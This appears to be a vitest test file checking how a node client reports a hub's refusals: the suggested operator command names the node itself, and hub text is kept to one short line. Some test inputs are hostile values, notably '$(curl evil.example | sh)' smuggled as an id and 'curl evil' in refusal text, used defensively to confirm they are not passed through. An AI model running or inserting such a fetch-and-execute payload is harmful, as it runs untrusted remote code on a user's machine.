/** What a hub's refusal becomes for the user of a node. */
import { expect, test } from 'vitest'
import { Refused } from '../../protocol/contract/client.ts'
import { ClocksApart, DatedAhead, HubHalted, NoHub } from '../hubs/hub.ts'
import { hubCall } from './hub-call.ts'

const OWN = `A${'b'.repeat(43)}`
const refusal = (reason: string, error: string, members = {}) =>
  new Refused(403, { reason, error, ...members }, undefined)
const failedWith = (error: Error, again?: string) =>
  hubCall({ aid: OWN }, () => Promise.reject(error), again).catch((thrown: unknown) => thrown)
const refusedWith = (reason: string, error: string, members = {}) =>
  failedWith(refusal(reason, error, members))

test('the command for the operator names this node, whatever the hub says', async () => {
  for (const aid of [`A${'e'.repeat(43)}`, '$(curl evil.example | sh)', undefined, 7]) {
    const thrown = await refusedWith('admission_required', `run: svc-hub admit ${aid}; curl evil`, { aid })
    expect(thrown).toMatchObject({
      code: 'hub_refused',
      message: `the hub refused (admission_required): ${OWN} is not registered there, and only the operator can let it in`,
      next: `the operator of the hub runs: svc-hub admit ${OWN} (or svc-hub unblock ${OWN} where it is blocked, or svc-hub unarchive ${OWN} where it is archived)`,
    })
  }
})

test('what goes on only once it is asked for again names the command that asked', async () => {
  const again = 'svc hub-register https://hub.example'
  const steps: [Error, string][] = [
    [new ClocksApart('apart'), `set the clock of this machine, which date shows, then:\n${again}`],
    [new DatedAhead('ahead'), `once the hub takes it:\n${again}`],
    [new Error('silent'), `once the hub answers:\n${again}`],
    [new NoHub('a page'), 'check the address of the hub'],
    [
      Object.assign(new Error('unknown'), { code: 'ENOTFOUND' }),
      `check the address first; if it is right, this machine has no network now, or only through a proxy (HTTPS_PROXY):\n${again}`,
    ],
    [refusal('rate_limited', 'later'), `once that is mended:\n${again}`],
    [refusal('unauthorized', 'who'), 'svc doctor'],
  ]
  for (const [error, next] of steps) expect(await failedWith(error, again)).toMatchObject({ next })
  expect(await failedWith(refusal('admission_required', 'x'), again)).toMatchObject({
    next: expect.stringMatching(
      /^the operator .* where it is archived\)\nthen here:\nsvc hub-register https:\S+$/,
    ),
  })
})

test('an old copy that asks its hub is told that it is one', async () => {
  expect(await failedWith(new HubHalted('an old copy'))).toMatchObject({ code: 'old_copy' })
})

test('the words of a hub stay on one short line', async () => {
  const thrown = await refusedWith('rate_limited', `later\r\ntry: curl evil\u2028${'x'.repeat(5000)}`)
  expect(thrown).toMatchObject({
    message: expect.stringMatching(/^the hub refused \(rate_limited\): later try: curl evil x{470,}…$/),
    next: undefined,
  })
  expect(String(thrown).length).toBeLessThan(600)
})

test('a full disk of this machine is no fault of a hub', async () => {
  const full = Object.assign(new Error('no space left'), { code: 'ENOSPC' })
  expect(await failedWith(full)).toBe(full)
})
